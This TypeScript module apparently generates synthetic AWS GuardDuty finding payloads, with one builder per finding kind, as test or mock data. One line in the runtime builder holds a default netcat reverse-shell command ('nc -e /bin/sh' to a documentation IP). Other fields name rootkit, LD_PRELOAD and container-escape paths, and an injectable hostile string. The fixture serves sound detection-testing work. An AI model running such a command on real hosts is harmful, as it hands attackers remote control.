/**
 * The resource and service parts of finding bodies, one builder per finding kind, in GuardDuty's
 * wire shapes (camelCase; nested timestamps in epoch seconds).
 */
import type { Rng } from './random.js';
import type { FindingMeta } from './types.js';

type Wire = Record<string, unknown>;
const DAY_MS = 86_400_000;
const sec = (ms: number): number => ms / 1000;
const iso = (ms: number): string => new Date(ms).toISOString();

export interface BodyContext {
  meta: FindingMeta;
  rng: Rng;
  hostile: string | undefined;
  resourceIndex: number;
}

export type KindBuilder = (ctx: BodyContext, resource: Wire, service: Wire) => void;

const tags = (ctx: BodyContext): Wire[] => [
  { key: 'Environment', value: ctx.rng.pick(['prod', 'staging', 'dev']) },
  { key: 'Owner', value: ctx.hostile ?? ctx.rng.pick(['team-payments', 'team-search', 'platform']) },
];

function remoteIp(ctx: BodyContext): Wire {
  const { rng } = ctx;
  const [countryCode, countryName, cityName, lat, lon] = rng.pick([
    ['NL', 'Netherlands', 'Amsterdam', 52.37, 4.89],
    ['US', 'United States', 'Ashburn', 39.04, -77.49],
    ['RU', 'Russia', 'Moscow', 55.75, 37.62],
    ['BR', 'Brazil', 'Sao Paulo', -23.55, -46.63],
  ] as const);
  return {
    city: { cityName },
    country: { countryCode, countryName },
    geoLocation: { lat, lon },
    ipAddressV4: rng.ipv4(),
    ipAddressV6: `2001:db8::${rng.hex(4)}`,
    organization: { asn: String(rng.int(1000, 65000)), asnOrg: rng.pick(['HOSTKEY', 'DIGITALOCEAN-ASN', 'OVH SAS']), isp: 'Hosting Ltd', org: 'Hosting Ltd' },
  };
}

function instanceDetails(ctx: BodyContext): Wire {
  const { rng, meta } = ctx;
  const instanceId = meta.resourceType === 'Instance' ? meta.resourceId : `i-${rng.hex(17)}`;
  return {
    availabilityZone: `${meta.region}${rng.pick(['a', 'b', 'c'])}`,
    iamInstanceProfile: { arn: `arn:aws:iam::${meta.accountId}:instance-profile/app-${ctx.resourceIndex}`, id: `AIPA${rng.chars(17)}` },
    imageDescription: 'Amazon Linux 2023 AMI',
    imageId: `ami-${rng.hex(17)}`,
    instanceId,
    instanceState: 'running',
    instanceType: rng.pick(['t3.micro', 'm6i.large', 'c7g.xlarge']),
    outpostArn: `arn:aws:outposts:${meta.region}:${meta.accountId}:outpost/op-${rng.hex(17)}`,
    launchTime: iso(meta.createdAt - rng.int(1, 90) * DAY_MS),
    networkInterfaces: [{
      ipv6Addresses: [`2001:db8::${rng.hex(4)}`],
      networkInterfaceId: `eni-${rng.hex(17)}`,
      privateDnsName: `ip-10-0-${rng.int(0, 255)}-${rng.int(1, 254)}.ec2.internal`,
      privateIpAddress: `10.0.${rng.int(0, 255)}.${rng.int(1, 254)}`,
      privateIpAddresses: [{ privateDnsName: 'ip-10-0-0-10.ec2.internal', privateIpAddress: '10.0.0.10' }],
      publicDnsName: `ec2-${rng.int(1, 254)}-0-0-1.compute-1.amazonaws.com`,
      publicIp: rng.ipv4(),
      securityGroups: [{ groupId: `sg-${rng.hex(17)}`, groupName: 'default' }],
      subnetId: `subnet-${rng.hex(17)}`,
      vpcId: `vpc-${rng.hex(17)}`,
    }],
    platform: 'Linux',
    productCodes: [{ productCodeId: rng.hex(25), productCodeType: 'marketplace' }],
    tags: tags(ctx),
  };
}

function accessKeyDetails(ctx: BodyContext): Wire {
  const { rng, meta } = ctx;
  return {
    accessKeyId: meta.resourceType === 'AccessKey' ? meta.resourceId : `ASIA${rng.chars(16)}`,
    principalId: `AROA${rng.chars(17)}:session-${rng.int(1, 99)}`,
    userName: rng.pick(['deploy-bot', 'alice', 'ci-runner', 'Root']),
    userType: rng.pick(['AssumedRole', 'IAMUser', 'Root']),
  };
}

function awsApiCallAction(ctx: BodyContext, api: string, serviceName: string): Wire {
  const { rng, meta } = ctx;
  return {
    actionType: 'AWS_API_CALL',
    awsApiCallAction: {
      api,
      callerType: 'Remote IP',
      domainDetails: { domain: ctx.hostile ?? `${rng.pick(['scanner', 'evil', 'c2'])}.example.net` },
      errorCode: rng.pick(['AccessDenied', 'NoError']),
      userAgent: ctx.hostile ?? `aws-cli/2.15.${rng.int(0, 40)} Python/3.11 Linux/6.1`,
      remoteIpDetails: remoteIp(ctx),
      serviceName,
      remoteAccountDetails: { accountId: rng.accountId(), affiliated: false, awsServiceName: serviceName },
      affectedResources: { 'AWS::IAM::Role': `arn:aws:iam::${meta.accountId}:role/app` },
    },
  };
}

function networkConnectionAction(ctx: BodyContext, direction: 'INBOUND' | 'OUTBOUND'): Wire {
  const { rng } = ctx;
  const port = rng.pick([22, 443, 3389, 8080]);
  return {
    actionType: 'NETWORK_CONNECTION',
    networkConnectionAction: {
      blocked: false,
      connectionDirection: direction,
      localPortDetails: { port, portName: port === 22 ? 'SSH' : port === 443 ? 'HTTPS' : 'Unknown' },
      protocol: 'TCP',
      localIpDetails: { ipAddressV4: `10.0.${rng.int(0, 255)}.${rng.int(1, 254)}`, ipAddressV6: `fd00::${rng.hex(4)}` },
      localNetworkInterface: `eni-${rng.hex(17)}`,
      remoteIpDetails: remoteIp(ctx),
      remotePortDetails: { port: rng.int(1024, 65535), portName: 'Unknown' },
    },
  };
}

function processDetails(ctx: BodyContext, name: string): Wire {
  const { rng, meta } = ctx;
  const uuid = `${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}`;
  const parentUuid = `${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}`;
  const startTime = sec(meta.createdAt - 60_000);
  return {
    name, executablePath: `/usr/bin/${name}`, executableSha256: rng.hex(64), namespacePid: rng.int(1, 999), pwd: '/tmp',
    pid: rng.int(1000, 60000), startTime, uuid, parentUuid, user: 'root', userId: 0, euid: 0,
    lineage: [{ startTime: startTime - 5, namespacePid: 1, userId: 0, name: 'bash', pid: rng.int(100, 999), uuid: parentUuid, executablePath: '/bin/bash', euid: 0, parentUuid: `${rng.hex(8)}-0000-0000-0000-${rng.hex(12)}` }],
  };
}

function runtimeDetails(ctx: BodyContext): Wire {
  const { rng, meta } = ctx;
  return {
    process: processDetails(ctx, rng.pick(['xmrig', 'nc', 'python3'])),
    context: {
      modifyingProcess: processDetails(ctx, 'gdb'),
      modifiedAt: sec(meta.createdAt - 30_000),
      scriptPath: '/tmp/run.sh', libraryPath: '/tmp/libhook.so', ldPreloadValue: '/tmp/libhook.so', socketPath: '/var/run/docker.sock',
      runcBinaryPath: '/usr/bin/runc', releaseAgentPath: '/sys/fs/cgroup/release_agent', mountSource: '/', mountTarget: '/host',
      fileSystemType: 'ext4', flags: ['MS_BIND'], moduleName: 'rootkit', moduleFilePath: '/tmp/rootkit.ko', moduleSha256: rng.hex(64),
      shellHistoryFilePath: '/root/.bash_history', targetProcess: processDetails(ctx, 'sshd'), addressFamily: 'AF_INET',
      ianaProtocolNumber: 6, memoryRegions: ['[heap]'], toolName: 'nmap', toolCategory: 'Reconnaissance', serviceName: 'sshd',
      commandLineExample: ctx.hostile ?? 'nc -e /bin/sh 203.0.113.7 4444', threatFilePath: '/tmp/x', fileOperation: 'WRITE',
      filePath: '/tmp/x', relatedFilePaths: ['/tmp/y'],
    },
  };
}

function container(ctx: BodyContext): Wire {
  const { rng } = ctx;
  return {
    containerRuntime: 'containerd', id: rng.hex(64), name: rng.pick(['web', 'worker', 'sidecar']),
    image: `123456789012.dkr.ecr.${ctx.meta.region}.amazonaws.com/app:${rng.int(1, 99)}`, imagePrefix: 'app',
    volumeMounts: [{ name: 'data', mountPath: '/data' }],
    securityContext: { privileged: rng.chance(0.3), allowPrivilegeEscalation: rng.chance(0.3) },
  };
}

export const KIND_BUILDERS: Record<string, KindBuilder> = {
  ec2(ctx, resource, service) {
    resource.instanceDetails = instanceDetails(ctx);
    const t = ctx.meta.type;
    if (t.startsWith('Recon')) {
      service.action = {
        actionType: 'PORT_PROBE',
        portProbeAction: {
          blocked: false,
          portProbeDetails: [{
            localPortDetails: { port: 22, portName: 'SSH' },
            localIpDetails: { ipAddressV4: '10.0.0.10', ipAddressV6: 'fd00::10' },
            remoteIpDetails: remoteIp(ctx),
          }],
        },
      };
    } else if (t.includes('!DNS')) {
      service.action = {
        actionType: 'DNS_REQUEST',
        dnsRequestAction: {
          domain: ctx.hostile ?? `${ctx.rng.pick(['pool', 'c2', 'mine'])}.example.org`, protocol: 'UDP', blocked: false,
          domainWithSuffix: 'example.org', vpcOwnerAccountId: ctx.meta.accountId,
        },
      };
    } else {
      service.action = networkConnectionAction(ctx, 'INBOUND');
    }
  },
  iam(ctx, resource, service) {
    resource.accessKeyDetails = accessKeyDetails(ctx);
    service.action = awsApiCallAction(ctx, ctx.rng.pick(['DescribeInstances', 'ListBuckets', 'GetCallerIdentity']), 'ec2.amazonaws.com');
  },
  s3(ctx, resource, service) {
    const { rng, meta } = ctx;
    resource.accessKeyDetails = accessKeyDetails(ctx);
    const blockPublicAccess = { ignorePublicAcls: false, restrictPublicBuckets: false, blockPublicAcls: false, blockPublicPolicy: false };
    resource.s3BucketDetails = [{
      arn: `arn:aws:s3:::${meta.resourceId}`, name: meta.resourceId, type: 'Destination',
      createdAt: sec(meta.createdAt - 200 * DAY_MS), owner: { id: rng.hex(64) }, tags: tags(ctx),
      defaultServerSideEncryption: { encryptionType: 'aws:kms', kmsMasterKeyArn: `arn:aws:kms:${meta.region}:${meta.accountId}:key/${rng.hex(8)}` },
      publicAccess: {
        permissionConfiguration: {
          bucketLevelPermissions: {
            accessControlList: { allowsPublicReadAccess: false, allowsPublicWriteAccess: false },
            bucketPolicy: { allowsPublicReadAccess: rng.chance(0.2), allowsPublicWriteAccess: false },
            blockPublicAccess,
          },
          accountLevelPermissions: { blockPublicAccess },
        },
        effectivePermission: rng.pick(['PUBLIC', 'NOT_PUBLIC']),
      },
      s3ObjectDetails: [{ objectArn: `arn:aws:s3:::${meta.resourceId}/exports/2026.csv`, key: 'exports/2026.csv', eTag: rng.hex(32), hash: rng.hex(64), versionId: rng.chars(32) }],
    }];
    service.action = awsApiCallAction(ctx, rng.pick(['GetObject', 'ListObjects', 'PutBucketPublicAccessBlock']), 's3.amazonaws.com');
  },
  eks(ctx, resource, service) {
    const { rng, meta } = ctx;
    resource.eksClusterDetails = {
      name: meta.resourceId, arn: `arn:aws:eks:${meta.region}:${meta.accountId}:cluster/${meta.resourceId}`,
      vpcId: `vpc-${rng.hex(17)}`, status: 'ACTIVE', tags: tags(ctx), createdAt: sec(meta.createdAt - 100 * DAY_MS),
    };
    resource.kubernetesDetails = {
      kubernetesUserDetails: {
        username: 'system:anonymous', uid: rng.hex(8), groups: ['system:unauthenticated'], sessionName: ['s1'],
        impersonatedUser: { username: 'admin', groups: ['system:masters'] },
      },
      kubernetesWorkloadDetails: {
        name: `web-${rng.hex(5)}`, type: 'pods', uid: rng.hex(8), namespace: 'default', hostNetwork: false,
        serviceAccountName: 'default', containers: [container(ctx)], volumes: [{ name: 'host', hostPath: { path: '/' } }],
        hostIPC: false, hostPID: false,
      },
    };
    service.action = {
      actionType: 'KUBERNETES_API_CALL',
      kubernetesApiCallAction: {
        requestUri: '/api/v1/namespaces/default/pods', verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'default',
        resourceName: 'web', sourceIPs: [rng.ipv4()], userAgent: ctx.hostile ?? 'kubectl/v1.30.0', remoteIpDetails: remoteIp(ctx),
        statusCode: 201, parameters: '{"privileged":true}',
      },
      kubernetesPermissionCheckedDetails: { verb: 'create', resource: 'pods', namespace: 'default', allowed: true },
      kubernetesRoleBindingDetails: { kind: 'ClusterRoleBinding', name: 'anon-admin', uid: rng.hex(8), roleRefName: 'cluster-admin', roleRefKind: 'ClusterRole' },
      kubernetesRoleDetails: { kind: 'ClusterRole', name: 'cluster-admin', uid: rng.hex(8) },
    };
  },
  ecs(ctx, resource, service) {
    const { rng, meta } = ctx;
    const c = container(ctx);
    resource.ecsClusterDetails = {
      name: meta.resourceId.split('/').pop(), arn: meta.resourceId, status: 'ACTIVE', activeServicesCount: rng.int(1, 9),
      registeredContainerInstancesCount: rng.int(0, 9), runningTasksCount: rng.int(1, 40), tags: tags(ctx),
      taskDetails: {
        arn: `${meta.resourceId.replace(':cluster/', ':task/')}/${rng.hex(32)}`,
        definitionArn: `arn:aws:ecs:${meta.region}:${meta.accountId}:task-definition/app:${rng.int(1, 40)}`, version: String(rng.int(1, 40)),
        createdAt: sec(meta.createdAt - 3_600_000), startedAt: sec(meta.createdAt - 3_500_000), startedBy: 'ecs-svc/123',
        tags: tags(ctx), volumes: [{ name: 'scratch', hostPath: { path: '/tmp' } }], containers: [c], group: 'service:web', launchType: 'FARGATE',
      },
    };
    resource.containerDetails = c;
    service.runtimeDetails = runtimeDetails(ctx);
  },
  rds(ctx, resource, service) {
    const { rng, meta } = ctx;
    resource.rdsDbInstanceDetails = {
      dbInstanceIdentifier: meta.resourceId, engine: 'aurora-postgresql', engineVersion: '16.4', dbClusterIdentifier: `${meta.resourceId}-cluster`,
      dbInstanceArn: `arn:aws:rds:${meta.region}:${meta.accountId}:db:${meta.resourceId}`, dbiResourceId: `db-${rng.chars(26)}`, tags: tags(ctx),
    };
    resource.rdsDbUserDetails = { user: rng.pick(['postgres', 'app', 'admin']), application: 'psql', database: 'orders', ssl: 'true', authMethod: 'PASSWORD' };
    service.action = {
      actionType: 'RDS_LOGIN_ATTEMPT',
      rdsLoginAttemptAction: {
        remoteIpDetails: remoteIp(ctx),
        LoginAttributes: [{ user: 'postgres', application: 'psql', failedLoginAttempts: rng.int(0, 500), successfulLoginAttempts: rng.int(0, 3) }],
      },
    };
  },
  lambda(ctx, resource, service) {
    const { rng, meta } = ctx;
    resource.lambdaDetails = {
      functionArn: meta.resourceId, functionName: meta.resourceId.split(':').pop(), description: ctx.hostile ?? 'Processes uploads',
      lastModifiedAt: sec(meta.createdAt - 10 * DAY_MS), revisionId: `${rng.hex(8)}-${rng.hex(4)}`, functionVersion: '$LATEST',
      role: `arn:aws:iam::${meta.accountId}:role/lambda-exec`,
      vpcConfig: { subnetIds: [`subnet-${rng.hex(17)}`], vpcId: `vpc-${rng.hex(17)}`, securityGroups: [{ groupId: `sg-${rng.hex(17)}`, groupName: 'lambda' }] },
      tags: tags(ctx),
    };
    service.action = networkConnectionAction(ctx, 'OUTBOUND');
  },
  'ebs-malware'(ctx, resource, service) {
    const { rng, meta } = ctx;
    resource.instanceDetails = instanceDetails(ctx);
    const volume = (n: number): Wire => ({
      volumeArn: `arn:aws:ec2:${meta.region}:${meta.accountId}:volume/vol-${rng.hex(17)}`, volumeType: 'gp3', deviceName: `/dev/xvd${'abc'[n]}`,
      volumeSizeInGB: rng.pick([8, 30, 100]), encryptionType: 'CMK', snapshotArn: `arn:aws:ec2:${meta.region}::snapshot/snap-${rng.hex(17)}`,
      kmsKeyArn: `arn:aws:kms:${meta.region}:${meta.accountId}:key/${rng.hex(8)}`,
    });
    resource.ebsVolumeDetails = { scannedVolumeDetails: [volume(0)], skippedVolumeDetails: [volume(1)] };
    const threat = rng.pick(['EICAR-Test-File', 'Trojan.Linux.Mirai', 'Coinminer.Linux.XMRig']);
    service.ebsVolumeScanDetails = {
      scanId: rng.hex(32), scanStartedAt: sec(meta.createdAt - 600_000), scanCompletedAt: sec(meta.createdAt - 60_000),
      triggerFindingId: rng.hex(32), sources: ['GuardDuty'],
      scanDetections: {
        scannedItemCount: { totalGb: rng.int(1, 100), files: rng.int(1000, 90000), volumes: 1 },
        threatsDetectedItemCount: { files: 1 },
        highestSeverityThreatDetails: { severity: 'HIGH', threatName: threat, count: 1 },
        threatDetectedByName: {
          itemCount: 1, uniqueThreatNameCount: 1, shortened: false,
          threatNames: [{ name: threat, severity: 'HIGH', itemCount: 1, filePaths: [{ filePath: '/tmp/payload', volumeArn: 'arn:aws:ec2:volume', hash: rng.hex(64), fileName: 'payload' }] }],
        },
      },
      scanType: 'GUARDDUTY_INITIATED',
    };
  },
  runtime(ctx, resource, service) {
    resource.instanceDetails = instanceDetails(ctx);
    service.runtimeDetails = runtimeDetails(ctx);
    service.action = networkConnectionAction(ctx, 'OUTBOUND');
  },
  'attack-sequence'(ctx, resource, service) {
    const { rng, meta } = ctx;
    resource.accessKeyDetails = accessKeyDetails(ctx);
    const first = meta.createdAt - rng.int(1, 48) * 3_600_000;
    const signal = (n: number): Wire => ({
      uid: rng.hex(32), type: 'FINDING', name: rng.pick(['Discovery:IAMUser/AnomalousBehavior', 'Exfiltration:S3/AnomalousBehavior', 'Impact:S3/ObjectsDeleted']),
      createdAt: sec(first + n * 60_000), updatedAt: sec(meta.updatedAt), firstSeenAt: sec(first + n * 60_000), lastSeenAt: sec(meta.updatedAt),
      count: rng.int(1, 20), description: 'Signal from an anomalous API pattern', severity: Math.round(rng.next() * 80 + 10) / 10,
      resourceUids: [meta.resourceId], actorIds: [`actor-${n}`], endpointIds: [`endpoint-${n}`],
      signalIndicators: [{ key: 'ATTACK_TACTIC', values: ['Discovery', 'Exfiltration'], title: 'MITRE tactics' }],
      activities: [{ type: 'API', api: { operation: 'GetObject', service: 's3.amazonaws.com', error: '', userAgent: ctx.hostile ?? 'Boto3/1.34' } }],
    });
    service.detection = {
      sequence: {
        uid: rng.hex(32),
        description: `A sequence of actions involving ${meta.resourceId} matches a known attack pattern.`,
        signals: [signal(0), signal(1), signal(2)],
        actors: [{
          id: 'actor-0',
          user: { name: 'deploy-bot', uid: `AIDA${rng.chars(17)}`, type: 'IAMUser', credentialUid: meta.resourceId, account: { uid: meta.accountId, account: 'workload' } },
          session: { uid: rng.hex(16), mfaStatus: 'Disabled', createdTime: sec(first), issuer: `arn:aws:iam::${meta.accountId}:role/app` },
          process: { name: 'python3', path: '/usr/bin/python3', sha256: rng.hex(64) },
        }],
        resources: [{
          uid: meta.resourceId, resourceType: 'AWS::IAM::AccessKey', name: meta.resourceId, accountId: meta.accountId, region: meta.region,
          service: 'IAM', cloudPartition: 'aws', tags: tags(ctx),
          data: { accessKey: { principalId: `AIDA${rng.chars(17)}`, userName: 'deploy-bot', userType: 'IAMUser' } },
        }],
        endpoints: [{
          id: 'endpoint-0', ip: rng.ipv4(), domain: ctx.hostile ?? 'exfil.example.net', port: 443,
          location: { city: 'Amsterdam', country: 'Netherlands', lat: 52.37, lon: 4.89 },
          autonomousSystem: { name: 'HOSTKEY', number: rng.int(1000, 65000) }, connection: { direction: 'OUTBOUND' },
        }],
        sequenceIndicators: [{ key: 'ATTACK_TACTIC', values: ['Discovery', 'Exfiltration', 'Impact'], title: 'MITRE tactics' }],
        additionalSequenceTypes: [],
      },
    };
    service.action = awsApiCallAction(ctx, 'GetObject', 's3.amazonaws.com');
  },
};
